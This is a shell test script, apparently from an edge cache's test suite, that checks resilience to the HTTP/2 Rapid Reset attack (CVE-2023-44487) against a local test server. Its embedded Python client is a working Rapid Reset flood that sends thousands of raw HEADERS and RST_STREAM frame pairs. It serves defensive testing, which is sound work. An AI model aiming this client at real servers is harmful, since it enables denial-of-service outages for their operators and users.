#!/usr/bin/env bash
# h20-rapid-reset (CVE-2023-44487): one TLS connection sends HEADERS + RST_STREAM pairs (raw HTTP/2 frames,
# hand-encoded HPACK) for thousands of unique paths whose origin answer is held. The edge must close that
# connection after limits.h2_reset_limit early resets, keep at most limits.background_fetches origin
# fetches going on for the abandoned requests (the others are cancelled before they connect), keep its
# descriptors bounded, count all of it in /metrics, and then still serve a cached object.
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

command -v openssl >/dev/null || skip "no openssl"
start_origin O
make_cert "$T/cert.pem" "$T/key.pem"

TOKEN=h20-token-0123456789abcdef
printf '%s\n' "$TOKEN" >"$T/admin.token"
EDGE_PORT=$(free_port)
TLS_PORT=$(free_port)
ADMIN_PORT=$(free_port)
cat >"$T/edge.yaml" <<YAML
threads: 1
listen:
  - {address: 127.0.0.1, port: $EDGE_PORT}
  - {address: 127.0.0.1, port: $TLS_PORT, tls: {certificate: $T/cert.pem, key: $T/key.pem}}
admin: {listen: 127.0.0.1:$ADMIN_PORT, token_file: admin.token}
origins:
  default: {servers: ["http://127.0.0.1:$O_PORT"], read_timeout: 60s}
behaviors:
  - {path: "*"}
limits: {background_fetches: 16, h2_reset_limit: 100, h2_reset_window: 10s}
YAML
start_edge_raw -c "$T/edge.yaml"
wait_edge "$EDGE_PORT" "$TLS_PORT" "$ADMIN_PORT"

metric() { # NAME: its value in /metrics
    curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" "http://127.0.0.1:$ADMIN_PORT/metrics" |
        awk -v k="$1" '$1 == k { print $2 }'
}
fds() { ls "/proc/$EDGE_PID/fd" | wc -l; }

script '*' '"hold": "slow", "headers": {"Cache-Control": "max-age=600"}'
fds_before=$(fds)

step "3,000 HEADERS + RST_STREAM pairs on unique held paths over one TLS connection"
"$PYTHON" - 127.0.0.1 "$TLS_PORT" 3000 >"$T/h2.out" 2>&1 <<'PY' || fail "h2 client: $(cat "$T/h2.out")"
import socket, ssl, struct, sys, time
host, port, pairs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname="localhost")
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()

def frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload

def lit(index, value):  # literal header field without indexing, indexed name (4-bit prefix), raw value < 127
    return bytes([index, len(value)]) + value

authority = ("%s:%d" % (host, port)).encode()
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
closed_after = None
sid = 1
try:
    for batch in range(0, pairs, 50):
        out = b""
        for i in range(batch, min(batch + 50, pairs)):
            block = b"\x82\x87" + lit(0x04, b"/h20/%d" % i) + lit(0x01, authority)  # GET https :path :authority
            out += frame(1, 0x05, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))  # END_STREAM|END_HEADERS; CANCEL
            sid += 2
        s.sendall(out)
except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout) as e:
    closed_after = sid // 2
# the edge must close the connection: read until end of stream (frames it sent before are skipped)
deadline = time.time() + 15
closed = closed_after is not None
while not closed and time.time() < deadline:
    try:
        if not s.recv(65536):
            closed = True
    except (ConnectionResetError, ssl.SSLError, OSError):
        closed = True
print("streams sent before the write failed:", closed_after)
print("closed by the edge:", closed)
sys.exit(0 if closed else 1)
PY
cat "$T/h2.out"

step "the origin saw a bounded number of requests; descriptors stay bounded"
held=$(origin_total)
echo "   origin requests: $held; edge descriptors before: $fds_before, now: $(fds)"
((held <= 100)) || fail "the origin received $held requests (limits.background_fetches is 16)"
((held >= 1)) || fail "no request reached the origin: the attack did not reach the edge's fetch path"
(($(fds) <= fds_before + 40)) || fail "the edge holds $(fds) descriptors (before: $fds_before)"

step "the metrics count the resets, the closed connection and the dropped fetches"
resets=$(metric edgecache_h2_resets_total)
closes=$(metric edgecache_h2_abusive_closes_total)
dropped=$(metric edgecache_background_fetches_dropped_total)
echo "   h2_resets=$resets h2_abusive_closes=$closes background_fetches_dropped=$dropped"
((resets > 100)) || fail "edgecache_h2_resets_total is $resets"
((closes == 1)) || fail "edgecache_h2_abusive_closes_total is $closes"
((dropped >= 1)) || fail "edgecache_background_fetches_dropped_total is $dropped"

step "the edge is alive and serves a cached object"
release slow
script /h20/ok '"body": "fine", "headers": {"Cache-Control": "max-age=600"}'
fetch /h20/ok -H 'Host: h20.example' # one site name on both listeners: the host is in the key
assert_status 200
fetch "https://127.0.0.1:$TLS_PORT/h20/ok" -H 'Host: h20.example' -k --http2
assert_status 200
assert_eq 2 "$HTTP_VERSION" "HTTP version"
assert_header X-Cache HIT
assert_body fine
assert_count /h20/ok 1
pass
